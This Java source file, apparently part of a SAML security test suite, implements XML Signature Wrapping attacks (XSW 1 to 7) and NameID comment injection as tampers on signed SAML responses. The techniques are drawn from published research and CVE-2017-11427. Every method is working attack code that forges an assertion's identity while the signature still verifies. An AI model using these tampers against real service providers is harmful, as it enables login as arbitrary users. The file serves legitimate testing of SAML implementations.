package org.parley.testing.saml;

import java.util.UUID;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * The attacks, as {@link Tamper}s on a signed response. The XML Signature Wrapping (XSW) variants follow Somorovsky
 * et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012): the signed element stays intact, so
 * its signature still verifies, while an "evil" copy whose {@code NameID} is {@code evilNameId} sits where a naive SP
 * reads. Each one expects the assertion (XSW 1 to 5, 7) or the response (XSW 6) to be signed and not encrypted.
 */
public final class Tampers {

    private Tampers() {
    }

    /** XSW 1: an unsigned evil assertion (own ID) inserted before the signed one. */
    public static Tamper extraUnsignedAssertion(String evilNameId) {
        return response -> {
            Element signed = assertion(response);
            signed.getParentNode().insertBefore(evilCopy(signed, evilNameId, false), signed);
        };
    }

    /** XSW 2: an evil copy with the same ID as the signed assertion, before it (ID lookups may find either). */
    public static Tamper sameIdAssertionBefore(String evilNameId) {
        return response -> {
            Element signed = assertion(response);
            signed.getParentNode().insertBefore(evilCopy(signed, evilNameId, true), signed);
        };
    }

    /** XSW 3: the evil assertion takes the signed one's place and carries the signed one inside itself. */
    public static Tamper signedAssertionInsideEvil(String evilNameId) {
        return response -> {
            Element signed = assertion(response);
            Element evil = evilCopy(signed, evilNameId, false);
            signed.getParentNode().replaceChild(evil, signed);
            evil.appendChild(signed);
        };
    }

    /** XSW 4: the signed assertion moved into {@code samlp:Extensions}; an evil copy with its ID in its place. */
    public static Tamper signedAssertionInExtensions(String evilNameId) {
        return response -> {
            Element signed = assertion(response);
            Element evil = evilCopy(signed, evilNameId, true);
            signed.getParentNode().replaceChild(evil, signed);
            Element extensions = response.createElementNS(Saml.PROTOCOL, "samlp:Extensions");
            extensions.appendChild(signed);
            Element root = response.getDocumentElement();
            root.insertBefore(extensions, Xml.child(root, Saml.ASSERTION, "Issuer").getNextSibling());
        };
    }

    /** XSW 5: the evil assertion gets a {@code ds:Signature/ds:Object} holding the original signed assertion. */
    public static Tamper signedAssertionInEvilSignatureObject(String evilNameId) {
        return response -> {
            Element signed = assertion(response);
            Element evil = evilCopy(signed, evilNameId, true);
            signed.getParentNode().replaceChild(evil, signed);
            Element signature = (Element) Xml.child(signed, Saml.DSIG, "Signature").cloneNode(true);
            Element object = response.createElementNS(Saml.DSIG, "ds:Object");
            object.appendChild(signed);
            signature.appendChild(object);
            evil.insertBefore(signature, Xml.child(evil, Saml.ASSERTION, "Issuer").getNextSibling());
        };
    }

    /** XSW 7: the signed assertion is replaced by an evil one with its ID that carries a copy of its signature. */
    public static Tamper signatureMovedToEvil(String evilNameId) {
        return response -> {
            Element signed = assertion(response);
            Element evil = evilCopy(signed, evilNameId, true);
            Element signature = (Element) Xml.child(signed, Saml.DSIG, "Signature").cloneNode(true);
            evil.insertBefore(signature, Xml.child(evil, Saml.ASSERTION, "Issuer").getNextSibling());
            signed.getParentNode().replaceChild(evil, signed);
        };
    }

    /**
     * XSW 6 (signed response): a new evil response (own ID, evil assertion) becomes the root; the original signed
     * response hides inside the evil response's copy of the signature, in a {@code ds:Object}.
     */
    public static Tamper responseWrapped(String evilNameId) {
        return response -> {
            Element original = response.getDocumentElement();
            Element evil = (Element) original.cloneNode(true);
            evil.setAttribute("ID", "_evil" + UUID.randomUUID().toString().replace("-", ""));
            Element evilAssertion = Xml.child(evil, Saml.ASSERTION, "Assertion");
            evil.replaceChild(evilCopy(evilAssertion, evilNameId, false), evilAssertion);
            Element signature = Xml.child(evil, Saml.DSIG, "Signature");
            Element object = response.createElementNS(Saml.DSIG, "ds:Object");
            response.replaceChild(evil, original);
            object.appendChild(original);
            signature.appendChild(object);
        };
    }

    /**
     * Comment injection (CVE-2017-11427 family): splits the signed NameID's text at {@code at} with an empty comment.
     * Exclusive c14n drops comments, so the signature still holds; an SP that reads only the first text node sees a
     * truncated name ({@code "admin@x.evil"} split after 7 reads {@code "admin@x"}).
     */
    public static Tamper commentInNameId(int at) {
        return response -> {
            Element nameId = Xml.first(response, Saml.ASSERTION, "NameID");
            String text = nameId.getTextContent();
            while (nameId.getFirstChild() != null) {
                nameId.removeChild(nameId.getFirstChild());
            }
            nameId.appendChild(response.createTextNode(text.substring(0, at)));
            nameId.appendChild(response.createComment(""));
            nameId.appendChild(response.createTextNode(text.substring(at)));
        };
    }

    /** Changes the (signed) NameID's text: the digest no longer matches. */
    public static Tamper replaceNameId(String value) {
        return response -> Xml.first(response, Saml.ASSERTION, "NameID").setTextContent(value);
    }

    private static Element assertion(Document response) {
        return Xml.child(response.getDocumentElement(), Saml.ASSERTION, "Assertion");
    }

    /** A deep copy without its signature, with another NameID and (unless keepId) a new ID. */
    private static Element evilCopy(Element signed, String evilNameId, boolean keepId) {
        Element evil = (Element) signed.cloneNode(true);
        Node signature = Xml.child(evil, Saml.DSIG, "Signature");
        if (signature != null) {
            evil.removeChild(signature);
        }
        if (!keepId) {
            evil.setAttribute("ID", "_evil" + UUID.randomUUID().toString().replace("-", ""));
        }
        Element subject = Xml.child(evil, Saml.ASSERTION, "Subject");
        Xml.child(subject, Saml.ASSERTION, "NameID").setTextContent(evilNameId);
        return evil;
    }
}
